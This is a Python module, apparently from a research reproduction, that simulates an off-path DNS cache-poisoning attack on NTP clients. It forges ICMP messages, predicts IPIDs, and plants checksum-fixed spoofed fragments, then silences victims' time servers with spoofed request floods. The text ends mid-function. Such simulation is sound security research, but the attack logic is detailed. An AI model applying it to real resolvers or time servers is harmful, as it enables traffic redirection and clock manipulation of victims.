"""Off-path attacker and measurement prober.

The attacker lowers the nameserver's path MTU towards the victim resolver,
predicts the nameserver's IPID, and plants forged second fragments whose
checksum matches the genuine response. Around that it discovers the victim
client's upstream servers and silences them by abusing their rate limiting.
The prober re-hosts the rate-limit and cache-snooping measurements.
"""
import json
import logging
import math
from collections import Counter
from dataclasses import asdict, dataclass, field
from enum import Enum
from typing import Dict, Iterable, List, Optional, Sequence, Set, Tuple

import numpy as np

from utils.analysis import required_removals
from utils.chronos import ChronosClient, attack_succeeds
from utils.dns import DNS_PORT, Resolver
from utils.netsim import Host, Simulator, TraceEvent
from utils.ntp import NTP_PORT, NtpClient, NtpServer, reference_address
from utils.wirefmt import (
    NTP_MODE_CLIENT,
    NTP_MODE_CONTROL,
    NTP_MODE_SERVER,
    PROTO_ICMP,
    PROTO_UDP,
    RCODE_NOERROR,
    UDP_HEADER_LEN,
    DnsMessage,
    DnsQuestion,
    IcmpFragNeeded,
    Ipv4Packet,
    Malformed,
    NtpPacket,
    ResourceRecord,
    SlackInsufficient,
    UdpDatagram,
    fix_checksum,
    ms_to_ntp,
)

logger = logging.getLogger(__name__)

IPID_SPACE = 1 << 16
MAX_TAIL_FRAGMENT = 1480
SELF_PROBE_QUERIES = 12
SELF_PROBE_SPACING_MS = 250
SELF_PROBE_MAX_REPLIES = 8
CAPTURE_TOLERANCE_MS = 1000
PROBE_QUERIES = 64
PROBE_HALF_MARGIN = 8
# past a 300 s penalty that the first 64 queries keep extending
KOD_RETRY_WAIT_MS = 330_000
KOD_RETRY_BURST = 32
KOD_RETRY_SPACING_MS = 100


class AttackError(RuntimeError):
    pass


class DiscoveryUnavailable(AttackError):
    pass


class NonLinearIpid(AttackError):
    pass


class ChecksumUnfixable(AttackError):
    pass


class SilenceOutcome(str, Enum):
    SILENCED = "Silenced"
    INEFFECTIVE = "Ineffective"


# ---------------------------------------------------------------------------
# IPID prediction
# ---------------------------------------------------------------------------

@dataclass
class IpidPredictor:
    samples: List[Tuple[int, int]]
    estimated_step: int = 1
    estimated_rate: float = 0.0
    slot_limit: Optional[int] = None

    @classmethod
    def fit(cls, samples: Sequence[Tuple[int, int]], slot_limit: Optional[int] = None,
            dispersion_tolerance: float = 4.0, max_rate: float = 500.0) -> "IpidPredictor":
        """Fit step and background rate from (time_ms, ipid) observations of our own probes.

        Each gap between consecutive probes holds our next response plus a
        Poisson number of foreign ones, all advancing the counter by one step.
        """
        if len(samples) < 2:
            raise ValueError("need at least two IPID samples")
        times = np.array([t for t, _ in samples], dtype=float)
        ipids = np.array([i for _, i in samples], dtype=np.int64)
        diffs = np.mod(np.diff(ipids), IPID_SPACE)
        if (diffs == 0).any():
            raise NonLinearIpid("IPID repeated between probes")
        step = int(np.gcd.reduce(diffs))
        foreign = diffs // step - 1
        span_s = (times[-1] - times[0]) / 1000
        rate = float(foreign.sum()) / span_s if span_s > 0 else 0.0
        if rate > max_rate:
            raise NonLinearIpid(f"implied background rate {rate:.0f}/s")
        if len(foreign) >= 2:
            mean, var = foreign.mean(), foreign.var(ddof=1)
            if var > dispersion_tolerance * (mean + 1):
                raise NonLinearIpid(f"IPID increments too dispersed (mean {mean:.1f}, var {var:.1f})")
        return cls(list(samples), step, rate, slot_limit)

    @property
    def last(self) -> Tuple[int, int]:
        return self.samples[-1]

    def candidates(self, t_ms: int) -> List[int]:
        """Foreign-response counts to cover at `t_ms`, nearest to the expectation first."""
        dt_s = max(0.0, (t_ms - self.last[0]) / 1000)
        lam = self.estimated_rate * dt_s
        sigma = math.sqrt(lam)
        low = max(0, math.floor(lam - 2 * sigma))
        high = math.ceil(lam + 2 * sigma)
        extras = sorted(range(low, high + 1), key=lambda j: (abs(j - lam), j))
        if self.slot_limit is not None and len(extras) > self.slot_limit:
            logger.warning("IPID window of %s exceeds the %s fragment slots; covering %.0f%% of it",
                           len(extras), self.slot_limit, 100 * self.slot_limit / len(extras))
            extras = extras[:self.slot_limit]
        return sorted(extras)

    def ipid_for(self, extra: int) -> int:
        return (self.last[1] + self.estimated_step * (1 + extra)) % IPID_SPACE

    def predict(self, t_ms: int) -> Tuple[int, List[int]]:
        """Centre IPID and the candidate window at `t_ms`."""
        extras = self.candidates(t_ms)
        lam = self.estimated_rate * max(0.0, (t_ms - self.last[0]) / 1000)
        return self.ipid_for(int(round(lam))), [self.ipid_for(j) for j in extras]


# ---------------------------------------------------------------------------
# Forging
# ---------------------------------------------------------------------------

def response_segment(qname: str, addresses: Sequence[str], ttl: int) -> bytes:
    """UDP segment of the nameserver's answer, header zeroed (it lives in the first fragment)."""
    message = DnsMessage(
        txid=0, qr=True, aa=True, question=DnsQuestion(qname),
        answers=tuple(ResourceRecord.a(qname, a, ttl) for a in addresses),
    )
    return bytes(UDP_HEADER_LEN) + message.encode()


def malicious_segment(qname: str, addresses: Sequence[str], ttl: int) -> Tuple[bytes, int]:
    """Forged segment and the offset of the checksum slack word inside it.

    The slack is the low TTL word of the last record; that record's TTL is
    raised to the next multiple of 65536 so the fixed value stays >= `ttl`.
    """
    if not addresses:
        raise ValueError("no malicious addresses")
    slack_ttl = ((ttl >> 16) + 1) << 16
    records = [ResourceRecord.a(qname, a, ttl) for a in addresses[:-1]]
    records.append(ResourceRecord.a(qname, addresses[-1], slack_ttl))
    message = DnsMessage(txid=0, qr=True, aa=True, question=DnsQuestion(qname), answers=tuple(records))
    slack_offset = UDP_HEADER_LEN + message.answer_ttl_offsets()[-1] + 2
    return bytes(UDP_HEADER_LEN) + message.encode(), slack_offset


def forged_addresses(malicious: Sequence[str], count: int, oversized: bool = False) -> List[str]:
    """Malicious addresses cycled to the genuine answer count; `oversized` keeps every one of them."""
    if not malicious:
        raise ValueError("no malicious addresses")
    total = max(count, len(malicious)) if oversized else count
    return [malicious[i % len(malicious)] for i in range(total)]


def forge_tail(genuine: bytes, forged: bytes, split: int, slack_offset: int, oversized: bool = False) -> bytes:
    """Bytes from `split` onwards of `forged`, fixed to sum like the genuine tail.

    The forgery must match the genuine length, which the first fragment's UDP
    length field fixes; `oversized` allows a longer one for resolvers that read
    answers past that length.
    """
    if len(genuine) <= split:
        raise AttackError(f"a {len(genuine)}-byte response is not split at {split}")
    if len(forged) < len(genuine) or (len(forged) > len(genuine) and not oversized):
        raise AttackError(f"a {len(forged)}-byte forgery cannot stand in for a {len(genuine)}-byte response")
    try:
        return fix_checksum(genuine[split:], forged[split:], slack_offset - split)
    except SlackInsufficient as e:
        raise ChecksumUnfixable(str(e)) from e


def tail_fragments(tail: bytes, split: int, src: str, dst: str, ipid: int) -> List[Ipv4Packet]:
    """Second-and-later fragments carrying `tail` from byte `split` of the datagram."""
    if split % 8:
        raise ValueError(f"fragment boundary {split} is not a multiple of 8")
    fragments = []
    for start in range(0, len(tail), MAX_TAIL_FRAGMENT):
        piece = tail[start:start + MAX_TAIL_FRAGMENT]
        fragments.append(Ipv4Packet(
            src, dst, PROTO_UDP, piece, ipid=ipid,
            mf=start + MAX_TAIL_FRAGMENT < len(tail), frag_offset=(split + start) // 8,
        ))
    return fragments


def first_fragment_size(mtu: int) -> int:
    return (mtu - 20) // 8 * 8


def assemble_zone_order(observations: Sequence[Tuple[int, Sequence[str]]], step: int = 1) -> List[str]:
    """Rotation order of a zone from (ipid, answer) pairs of back-to-back queries.

    Consecutive IPIDs mean no foreign answer rotated the zone in between, so the
    last address of one answer precedes the first of the next. Returns [] until
    the successor chain closes over every address seen.
    """
    successor: Dict[str, str] = {}
    seen: Set[str] = set()
    previous: Optional[Tuple[int, Sequence[str]]] = None
    for ipid, addresses in observations:
        seen.update(addresses)
        for a, b in zip(addresses, addresses[1:]):
            successor[a] = b
        if previous is not None and addresses and previous[1] and (previous[0] + step) % IPID_SPACE == ipid:
            successor[previous[1][-1]] = addresses[0]
        previous = (ipid, addresses)
    if not seen or any(a not in successor for a in seen):
        return []
    start = min(seen)
    order = [start]
    while successor[order[-1]] != start:
        order.append(successor[order[-1]])
        if len(order) > len(seen):
            return []
    return order if len(order) == len(seen) else []


# ---------------------------------------------------------------------------
# Plans and reports
# ---------------------------------------------------------------------------

@dataclass
class AttackPlan:
    kind: str
    resolver_ip: str
    nameserver_ip: str
    client_ip: str
    malicious_addresses: List[str]
    qname: str = "pool.ntp.org"
    discovery: str = "control"
    attacker_offset_s: int = -500
    start_s: float = 0.0
    timeout_s: float = 3600.0
    icmp_mtu: int = 68
    spoof_rate: float = 2.0
    malicious_ttl: int = 90000
    honest_ttl: int = 150
    addresses_per_response: int = 4
    oversized_answers: bool = False
    victim_boot_s: float = 0.0
    victim_variant: Optional[str] = None
    victim_runtime_dns: bool = True
    victim_associations: int = 1
    poison_round: Optional[int] = None
    query_interval_s: int = 3600
    probes: int = 3
    probe_spacing_ms: int = 250
    slot_limit: int = 64
    defrag_timeout_s: int = 30
    enumerate_queries: int = 64
    refid_wait_s: int = 900
    phase: str = "idle"
    phase_timestamps: Dict[str, int] = field(default_factory=dict)

    def __post_init__(self):
        if self.kind not in ("boot_time", "run_time", "chronos"):
            raise ValueError(f"unknown attack kind {self.kind!r}")
        if self.discovery not in ("control", "refid", "enumerate"):
            raise ValueError(f"unknown discovery strategy {self.discovery!r}")

    @property
    def removals_needed(self) -> int:
        return required_removals(max(1, self.victim_associations))


@dataclass
class AttackReport:
    kind: str
    success: bool
    cause: Optional[str]
    duration_ms: Optional[int]
    phases: List[Dict]
    packets_sent: Dict[str, int]
    fragments_per_attempt: List[int] = field(default_factory=list)
    victim_offset_ms: Optional[int] = None
    pool: Optional[Dict] = None

    def to_dict(self) -> Dict:
        return asdict(self)

    def to_json(self) -> str:
        return json.dumps(self.to_dict(), sort_keys=True, indent=2)

    @property
    def phase_sequence(self) -> List[str]:
        return [p["phase"] for p in self.phases]


# ---------------------------------------------------------------------------
# Off-path hosts
# ---------------------------------------------------------------------------

class OffPathHost:
    """Request/response helpers for a host that only sees traffic addressed to it."""

    def __init__(self, host: Host):
        self.host = host
        self.sim = host.sim
        self.packets: Counter = Counter()
        self.last_seen: Dict[str, Tuple[int, int]] = {}
        self.rng = self.sim.rng(f"offpath:{host.name}")
        host.sniffer = self._sniff

    @property
    def name(self) -> str:
        return self.host.name

    def _sniff(self, pkt: Ipv4Packet) -> None:
        if not pkt.is_fragment:
            self.last_seen[pkt.src] = (self.sim.now, pkt.ipid)

    def _exchange(self, dst: str, dst_port: int, payload: bytes, category: str, timeout_ms: int = 2000):
        port = self.host.ephemeral_port()
        reply = self.sim.env.event()

        def on_reply(datagram: UdpDatagram, src_ip: str) -> None:
            if src_ip == dst and not reply.triggered:
                reply.succeed(datagram)

        self.host.bind(port, on_reply)
        self.packets[category] += 1
        self.host.send_udp(dst, port, dst_port, payload)
        yield reply | self.sim.env.timeout(timeout_ms)
        self.host.unbind(port)
        return reply.value if reply.triggered else None

    def _dns(self, server_ip: str, qname: str, rd: bool, category: str):
        query = DnsMessage(txid=int(self.rng.integers(0, 1 << 16)), rd=rd, question=DnsQuestion(qname))
        datagram = yield from self._exchange(server_ip, DNS_PORT, query.encode(), category)
        if datagram is None:
            return None
        try:
            message = DnsMessage.decode(datagram.payload)
        except Malformed:
            return None
        return message if message.txid == query.txid else None


@dataclass
class RateLimitProbe:
    server: str
    r1: int
    r2: int
    kod: bool
    classification: str


@dataclass
class SnoopResult:
    status: str
    ttl: Optional[int] = None


class Prober(OffPathHost):
    """Measurement host running the rate-limit and cache-snooping probes."""

    def detect_rate_limiting(self, server_ip: str, queries: int = PROBE_QUERIES, spacing_ms: int = 1000,
                             kod_retries: int = 0):
        """Query `server_ip` once per spacing and compare the answers of both halves.

        A server that looks silently limiting is re-tested up to `kod_retries`
        times once its penalty has lapsed, with a fast burst that draws a fresh KoD
        from servers that send one.
        """
        port = self.host.ephemeral_port()
        sent: Dict[int, int] = {}
        halves = [0, 0]
        kod = False

        def on_reply(datagram: UdpDatagram, src_ip: str) -> None:
            nonlocal kod
            if src_ip != server_ip:
                return
            try:
                packet = NtpPacket.decode(datagram.payload)
            except Malformed:
                return
            index = sent.pop(packet.orig_ts, None)
            if index is None or packet.mode != NTP_MODE_SERVER:
                return
            if packet.is_kod:
                kod = True
            elif index >= 0:
                halves[index >= queries // 2] += 1

        serial = 0

        def query(index: int) -> None:
            nonlocal serial
            xmit = ms_to_ntp(self.sim.now) + serial
            serial += 1
            sent[xmit] = index
            self.packets["ntp_probe"] += 1
            self.host.send_udp(server_ip, port, NTP_PORT, NtpPacket(mode=NTP_MODE_CLIENT, xmit_ts=xmit).encode())

        self.host.bind(port, on_reply)
        for i in range(queries):
            query(i)
            yield self.sim.env.timeout(spacing_ms)
        yield self.sim.env.timeout(2000)

        r1, r2 = halves
        for _ in range(kod_retries):
            if kod or r1 - r2 <= PROBE_HALF_MARGIN:
                break
            yield self.sim.env.timeout(KOD_RETRY_WAIT_MS)
            for _ in range(KOD_RETRY_BURST):
                query(-1)
                yield self.sim.env.timeout(KOD_RETRY_SPACING_MS)
            yield self.sim.env.timeout(2000)
        self.host.unbind(port)

        if kod:
            classification = "kod"
        elif r1 - r2 > PROBE_HALF_MARGIN:
            classification = "silent_limit"
        else:
            classification = "none"
        return RateLimitProbe(server_ip, r1, r2, kod, classification)

    def cache_snoop(self, resolver_ip: str, names: Iterable[str], probe_domain: str = "probe.test"):
        """Cached / not-cached per name, or untestable when the resolver fails verification."""
        names = list(names)
        token = int(self.rng.integers(0, 1 << 32))
        untestable = {name: SnoopResult("untestable") for name in names}

        fresh = yield from self._dns(resolver_ip, f"miss-{token:08x}.{probe_domain}", False, "snoop")
        if fresh is None or fresh.rcode != RCODE_NOERROR or fresh.answers:
            return untestable
        primed_name = f"hit-{token:08x}.{probe_domain}"
        primed = yield from self._dns(resolver_ip, primed_name, True, "snoop")
        if primed is None or not primed.answers:
            return untestable
        check = yield from self._dns(resolver_ip, primed_name, False, "snoop")
        if check is None or not check.answers:
            return untestable

        results = {}
        for name in names:
            answer = yield from self._dns(resolver_ip, name, False, "snoop")
            if answer is None or answer.rcode != RCODE_NOERROR:
                results[name] = SnoopResult("untestable")
            elif answer.answers:
                results[name] = SnoopResult("cached", min(r.ttl for r in answer.answers))
            else:
                results[name] = SnoopResult("not_cached")
        return results


class Attacker(OffPathHost):
    """Runs one AttackPlan as a set of simulator processes."""

    def __init__(self, host: Host, plan: AttackPlan, resolver: Optional[Resolver] = None,
                 malicious_servers: Sequence[NtpServer] = ()):
        super().__init__(host)
        self.plan = plan
        self.resolver = resolver
        self.phases: List[Dict] = []
        self.zone_order: List[str] = []
        self.cursor: Optional[int] = None
        self.upstreams: List[str] = []
        self.hostnames: List[str] = []
        self.silenced: List[str] = []
        self.ineffective: List[str] = []
        self.fragments_per_attempt: List[int] = []
        self._attempt: Optional[int] = None
        self.victim_seen = False
        self.poison_confirmed = False
        self.done = False
        self.failure: Optional[str] = None
        self._spoofing: Dict[str, bool] = {}
        self._warned_unfragmented = False
        self.malicious = set(plan.malicious_addresses)
        for server in malicious_servers:
            server.observers.append(self._on_malicious_request)

    # -- bookkeeping ----------------------------------------------------------

    def phase(self, name: str, /, **detail) -> None:
        self.plan.phase = name
        self.plan.phase_timestamps.setdefault(name, self.sim.now)
        self.phases.append({"phase": name, "t": self.sim.now, **detail})
        self.sim.emit("attack_phase", self.name, phase=name, **detail)

    def finish(self) -> None:
        self.done = True
        self._close_attempt()
        self._spoofing = {ip: False for ip in self._spoofing}

    def _on_malicious_request(self, src_ip: str, packet: NtpPacket) -> None:
        if src_ip == self.plan.client_ip and not self.victim_seen:
            self.victim_seen = True
            logger.info("%s: victim %s reached a malicious server", self.name, src_ip)

    def _stop_planting(self) -> bool:
        return self.done or self.victim_seen or self.poison_confirmed

    def start(self) -> None:
        runner = {"boot_time": self._boot_time, "run_time": self._run_time, "chronos": self._chronos}
        self.sim.process(runner[self.plan.kind]())

    # -- nameserver side ------------------------------------------------------

    def _ask_nameserver(self):
        message = yield from self._dns(self.plan.nameserver_ip, self.plan.qname, False, "dns_probe")
        seen = self.last_seen.get(self.plan.nameserver_ip)
        if message is None or seen is None:
            return None
        return seen[0], seen[1], [r.address for r in message.answers]

    def enumerate_zone(self, max_queries: Optional[int] = None):
        """Learn the rotation order of the pool zone by querying the nameserver directly."""
        observations = []
        for _ in range(max_queries or self.plan.enumerate_queries):
            answer = yield from self._ask_nameserver()
            if answer is None:
                continue
            observations.append((answer[1], answer[2]))
            order = assemble_zone_order(observations)
            if order and sum(len(a) for _, a in observations) > len(order):
                self.zone_order = order
                self._learn_cursor(answer[2])
                return order
        self.zone_order = assemble_zone_order(observations)
        return self.zone_order

    def _learn_cursor(self, addresses: Sequence[str]) -> None:
        if not addresses or addresses[0] not in self.zone_order:
            self.cursor = None
            return
        self.cursor = (self.zone_order.index(addresses[0]) + len(addresses)) % len(self.zone_order)

    def probe_ipid(self, n_probes: Optional[int] = None, spacing_ms: Optional[int] = None) -> "IpidPredictor":
        n_probes = n_probes or self.plan.probes
        spacing_ms = spacing_ms or self.plan.probe_spacing_ms
        if n_probes < 2:
            raise ValueError("need at least two probes")
        samples = []
        last_answer: Sequence[str] = ()
        for i in range(n_probes):
            if i:
                yield self.sim.env.timeout(spacing_ms)
            answer = yield from self._ask_nameserver()
            if answer is not None:
                samples.append((answer[0], answer[1]))
                last_answer = answer[2]
        if len(samples) < 2:
            raise NonLinearIpid("too few probe answers")
        self._learn_cursor(last_answer)
        return IpidPredictor.fit(samples, slot_limit=self.plan.slot_limit)

    def send_frag_needed(self) -> None:
        path = Ipv4Packet(self.plan.nameserver_ip, self.plan.resolver_ip, PROTO_UDP, bytes(UDP_HEADER_LEN))
        icmp = IcmpFragNeeded.for_packet(path, self.plan.icmp_mtu)
        pkt = Ipv4Packet(self.host.ip, self.plan.nameserver_ip, PROTO_ICMP, icmp.encode(), ipid=self.host.next_ipid())
        self.packets["icmp"] += 1
        self.sim.transmit(self.host, pkt)

    def genuine_addresses(self, extra: int) -> List[str]:
        zone = self.zone_order
        per = min(self.plan.addresses_per_response, len(zone))
        cursor = (self.cursor + per * extra) % len(zone)
        return [zone[(cursor + i) % len(zone)] for i in range(per)]

    def forge_and_plant(self, predictor: IpidPredictor, t_target_ms: int) -> int:
        """Plant one forged tail per candidate IPID; returns the fragments sent."""
        plan = self.plan
        split = first_fragment_size(plan.icmp_mtu)
        per = min(plan.addresses_per_response, len(self.zone_order))
        addresses = forged_addresses(plan.malicious_addresses, per, plan.oversized_answers)
        forged, slack_offset = malicious_segment(plan.qname, addresses, plan.malicious_ttl)
        sent = 0
        for extra in predictor.candidates(t_target_ms):
            genuine = response_segment(plan.qname, self.genuine_addresses(extra), plan.honest_ttl)
            if len(genuine) <= split:
                if not self._warned_unfragmented:
                    logger.warning("%s: %s-byte responses are not fragmented at mtu %s",
                                   self.name, len(genuine), plan.icmp_mtu)
                    self._warned_unfragmented = True
                return sent
            tail = forge_tail(genuine, forged, split, slack_offset, plan.oversized_answers)
            for fragment in tail_fragments(tail, split, plan.nameserver_ip, plan.resolver_ip,
                                           predictor.ipid_for(extra)):
                self.sim.send_spoofed(self.host, plan.nameserver_ip, fragment)
                self.packets["fragment"] += 1
                sent += 1
        return sent

    def _plant_round(self):
        self.send_frag_needed()
        yield self.sim.env.timeout(50)
        if not self.zone_order:
            yield from self.enumerate_zone()
            if not self.zone_order:
                logger.warning("%s: could not learn the zone rotation", self.name)
                return 0
        try:
            predictor = yield from self.probe_ipid()
        except NonLinearIpid as e:
            logger.warning("%s: %s", self.name, e)
            return 0
        if self.cursor is None:
            self.zone_order = []
            return 0
        target = self.sim.now + self.plan.defrag_timeout_s * 1000 // 2
        return self.forge_and_plant(predictor, target)

    def _poison_loop(self, deadline_ms: int, trigger: bool = False):
        """Re-plant every defragmentation timeout; one attempt spans one honest TTL."""
        timeout_ms = self.plan.defrag_timeout_s * 1000
        rounds = max(1, math.ceil(self.plan.honest_ttl / self.plan.defrag_timeout_s))
        while not self._stop_planting() and self.sim.now < deadline_ms:
            self._attempt = 0
            for _ in range(rounds):
                if self._stop_planting() or self.sim.now >= deadline_ms:
                    break
                started = self.sim.now
                planted = yield from self._plant_round()
                if self._attempt is not None:
                    self._attempt += planted
                if trigger:
                    yield from self._trigger_and_check()
                remaining = timeout_ms - (self.sim.now - started)
                if remaining > 0:
                    yield self.sim.env.timeout(remaining)
            self._close_attempt()

    def _close_attempt(self) -> None:
        if self._attempt is not None:
            self.fragments_per_attempt.append(self._attempt)
            self._attempt = None

    def _trigger_and_check(self):
        if self.resolver is None or not self.resolver.config.externally_triggerable:
            return
        if self.resolver.trigger(self.plan.qname):
            self.packets["trigger"] += 1
        yield self.sim.env.timeout(1000)
        answer = yield from self._dns(self.plan.resolver_ip, self.plan.qname, False, "snoop")
        if answer is not None and {r.address for r in answer.answers} & self.malicious:
            self.poison_confirmed = True

    # -- client side ----------------------------------------------------------

    def discover_upstream(self, strategy: Optional[str] = None):
        strategy = strategy or self.plan.discovery
        client = self.plan.client_ip
        if strategy == "control":
            datagram = yield from self._exchange(client, NTP_PORT, NtpPacket(mode=NTP_MODE_CONTROL).encode(), "control")
            if datagram is None:
                raise DiscoveryUnavailable(f"{client} does not answer control queries")
            packet = NtpPacket.decode(datagram.payload)
            dump = json.loads(packet.extension.decode() or "{}")
            self.hostnames = list(dump.get("hostnames", []))
            return list(dump.get("peers", []))
        if strategy == "refid":
            query = NtpPacket(mode=NTP_MODE_CLIENT, xmit_ts=ms_to_ntp(self.sim.now))
            datagram = yield from self._exchange(client, NTP_PORT, query.encode(), "ntp_query")
            upstream = reference_address(NtpPacket.decode(datagram.payload)) if datagram else None
            if upstream is None:
                raise DiscoveryUnavailable(f"{client} leaks no reference ID")
            return [upstream]
        if strategy == "enumerate":
            order = yield from self.enumerate_zone()
            if not order:
                raise DiscoveryUnavailable("pool enumeration did not saturate")
            return list(order)
        raise ValueError(f"unknown discovery strategy {strategy!r}")

    def _spoof(self, server_ip: str):
        gap_ms = max(1, int(1000 / self.plan.spoof_rate))
        while self._spoofing.get(server_ip) and not self.done:
            request = NtpPacket(mode=NTP_MODE_CLIENT, xmit_ts=ms_to_ntp(self.sim.now))
            self.host.send_spoofed_udp(self.plan.client_ip, server_ip, NTP_PORT, NTP_PORT, request.encode())
            self.packets["spoofed_ntp"] += 1
            yield self.sim.env.timeout(gap_ms)

    def _self_probe(self, server_ip: str):
        port = self.host.ephemeral_port()
        replies = 0

        def on_reply(datagram: UdpDatagram, src_ip: str) -> None:
            nonlocal replies
            try:
                packet = NtpPacket.decode(datagram.payload)
            except Malformed:
                return
            if src_ip == server_ip and packet.mode == NTP_MODE_SERVER and not packet.is_kod:
                replies += 1

        self.host.bind(port, on_reply)
        for _ in range(SELF_PROBE_QUERIES):
            self.packets["ntp_query"] += 1
            self.host.send_udp(server_ip, port, NTP_PORT,
                               NtpPacket(mode=NTP_MODE_CLIENT, xmit_ts=ms_to_ntp(self.sim.now)).encode())
            yield self.sim.env.timeout(SELF_PROBE_SPACING_MS)
        yield self.sim.env.timeout(1000)
        self.host.unbind(port)
        return replies

    def silence_association(self, server_ip: str, **detail):
        """Flood `server_ip` with requests spoofed from the victim; report whether it limits."""
        self._spoofing[server_ip] = True
        self.sim.process(self._spoof(server_ip))
        yield self.sim.env.timeout(2000)
        replies = yield from self._self_probe(server_ip)
        if replies <= SELF_PROBE_MAX_REPLIES:
            outcome = SilenceOutcome.SILENCED
            self.silenced.append(server_ip)
        else:
            outcome = SilenceOutcome.INEFFECTIVE
            self.ineffective.append(server_ip)
            self._spoofing[server_ip] = False
        self.phase("silence", server=server_ip, outcome=outcome.value, **detail)
        return outcome

    # -- orchestrations -------------------------------------------------------

    def _deadline(self) -> int:
        return int((self.plan.start_s + self.plan.timeout_s) * 1000)

    def _boot_time(self):
        plan = self.plan
        yield self.sim.env.timeout(int(plan.start_s * 1000))
        trigger = self.resolver is not None and self.resolver.config.externally_triggerable
        yield from self._poison_loop(self._deadline(), trigger=trigger)

    def _run_time(self):
        plan = self.plan
        yield self.sim.env.timeout(int(plan.start_s * 1000))
        if plan.victim_variant == "sntp_oneshot":
            self.failure = "NotApplicable"
            return
        if not plan.victim_runtime_dns:
            self.failure = "NoRuntimeDns"
            return

        self.phase("discover", strategy=plan.discovery)
        try:
            upstreams = yield from self.discover_upstream()
        except DiscoveryUnavailable as e:
            logger.warning("%s: %s", self.name, e)
            self.failure = "DiscoveryUnavailable"
            return
        self.upstreams = list(upstreams)
        self.sim.process(self._poison_loop(self._deadline()))

        if plan.discovery == "refid":
            yield from self._silence_by_refid(upstreams[0])
            return
        needed = len(upstreams) if plan.discovery == "enumerate" else plan.removals_needed
        for server in upstreams:
            if len(self.silenced) >= needed or self.done:
                break
            yield from self.silence_association(server, via=plan.discovery)

    def _silence_by_refid(self, upstream: str):
        needed = self.plan.removals_needed
        waited_from = self.sim.now
        while len(self.silenced) < needed and not self.done:
            if upstream not in self.silenced and upstream not in self.ineffective:
                yield from self.silence_association(upstream, via="refid")
                waited_from = self.sim.now
            if len(self.silenced) >= needed:
                return
            if self.sim.now - waited_from > self.plan.refid_wait_s * 1000:
                logger.warning("%s: reference ID stopped changing", self.name)
                return
            yield self.sim.env.timeout(16_000)
            try:
                found = yield from self.discover_upstream("refid")
            except DiscoveryUnavailable:
                continue
            upstream = found[0]

    def _chronos(self):
        plan = self.plan
        if plan.poison_round is None:
            self.failure = "NotApplicable"
            return
        query_ms = int((plan.victim_boot_s + plan.poison_round * plan.query_interval_s) * 1000)
        lead_ms = plan.defrag_timeout_s * 1000 - 5000
        start_ms = max(int(plan.start_s * 1000), query_ms - lead_ms)
        if start_ms > self.sim.now:
            yield self.sim.env.timeout(start_ms - self.sim.now)
        deadline = query_ms + plan.defrag_timeout_s * 1000 * 2
        yield from self._poison_loop(deadline)


class AttackMonitor:
    """Scores an attack from the trace: poisoning on a malicious cache write, capture on the victim's clock."""

    def __init__(self, sim: Simulator, attacker: Attacker, victim, resolver_name: str):
        self.sim = sim
        self.attacker = attacker
        self.plan = attacker.plan
        self.victim = victim
        self.resolver_name = resolver_name
        self.poisoned_at: Optional[int] = None
        self.captured_at: Optional[int] = None
        sim.listeners.append(self._on_event)

    def _on_event(self, event: TraceEvent) -> None:
        if event.kind == "cache_write" and event.actor == self.resolver_name and self.poisoned_at is None:
            if set(event.detail.get("addresses", [])) & self.attacker.malicious:
                self.poisoned_at = event.t
                self.attacker.poison_confirmed = True
                self.attacker.phase("poison", name=event.detail.get("name"), ttl=event.detail.get("ttl"))
        elif event.kind == "clock_step" and event.actor == self.victim.name and self.captured_at is None:
            if self.captured():
                self._capture()

    def malicious_share(self) -> Tuple[int, int]:
        if isinstance(self.victim, ChronosClient):
            return self.victim.pool.malicious_count, len(self.victim.pool.members)
        active = self.victim.active_associations
        return sum(a.server_ip in self.attacker.malicious for a in active), len(active)

    def captured(self) -> bool:
        if isinstance(self.victim, ChronosClient):
            return self.victim.pool.generation_complete and attack_succeeds(self.victim.pool)
        bad, total = self.malicious_share()
        target = self.plan.attacker_offset_s * 1000
        return abs(self.victim.clock.offset - target) < CAPTURE_TOLERANCE_MS and 2 * bad > total

    def _capture(self) -> None:
        self.captured_at = self.sim.now
        bad, total = self.malicious_share()
        self.attacker.phase("capture", offset=self.victim.clock.offset, malicious=bad, of=total)
        self.attacker.finish()
        self.sim.stop()

    def finalize(self) -> None:
        if self.captured_at is None and isinstance(self.victim, ChronosClient) and self.captured():
            self._capture()

    def cause(self) -> Optional[str]:
        if self.captured_at is not None:
            return None
        attacker = self.attacker
        if attacker.failure:
            return attacker.failure
        if self.plan.kind == "run_time" and len(attacker.silenced) < self.plan.removals_needed \
                and self.plan.discovery != "enumerate":
            return "Ineffective"
        if self.plan.kind == "run_time" and self.plan.discovery == "enumerate" and not attacker.silenced:
            return "Ineffective"
        if self.poisoned_at is None:
            return "PoisonFailed"
        if self.plan.kind == "chronos":
            return "Ineffective"
        return "Timeout"


def run_attack(sim: Simulator, attacker: Attacker, monitor: AttackMonitor, until_ms: int) -> AttackReport:
    """Run the wired scenario to `until_ms` (or capture) and summarize the attack."""
    attacker.start()
    sim.run_until(until_ms)
    monitor.finalize()
    attacker.finish()
    plan = attacker.plan
    success = monitor.captured_at is not None
    duration = monitor.captured_at - int(plan.start_s * 1000) if success else None
    pool = None
    if isinstance(monitor.victim, ChronosClient):
        chronos_pool = monitor.victim.pool
        pool = {"queries_done": chronos_pool.queries_done, "honest": chronos_pool.honest_count,
                "malicious": chronos_pool.malicious_count}
        if monitor.victim.selection is not None:
            pool["selection_offset_ms"] = monitor.victim.selection.offset_ms
            pool["selection_malicious_fraction"] = monitor.victim.selection.malicious_fraction
    victim_offset = monitor.victim.clock.offset
    return AttackReport(
        kind=plan.kind,
        success=success,
        cause=monitor.cause(),
        duration_ms=duration,
        phases=list(attacker.phases),
        packets_sent=dict(sorted(attacker.packets.items())),
        fragments_per_attempt=list(attacker.fragments_per_attempt),
        victim_offset_ms=victim_offset,
        pool=pool,
    )


def blind_spoof(attacker: Attacker, resolver: Resolver, attempts: int, per_query: int = 1000,
                probe_domain: str = "probe.test"):
    """Race `attempts` guessed-challenge responses against fresh resolver queries; returns successes."""
    plan = attacker.plan
    address = plan.malicious_addresses[0]
    successes = 0
    batch = 0
    while batch * per_query < attempts:
        qname = f"spoof-{batch}.{probe_domain}"
        count = min(per_query, attempts - batch * per_query)
        resolver.trigger(qname)
        for _ in range(count):
            txid = int(attacker.rng.integers(0, 1 << 16))
            port = int(attacker.rng.integers(1024, 1 << 16))
            forged = DnsMessage(txid=txid, qr=True, aa=True, question=DnsQuestion(qname),
                                answers=(ResourceRecord.a(qname, address, plan.malicious_ttl),))
            attacker.host.send_spoofed_udp(plan.nameserver_ip, plan.resolver_ip, DNS_PORT, port, forged.encode())
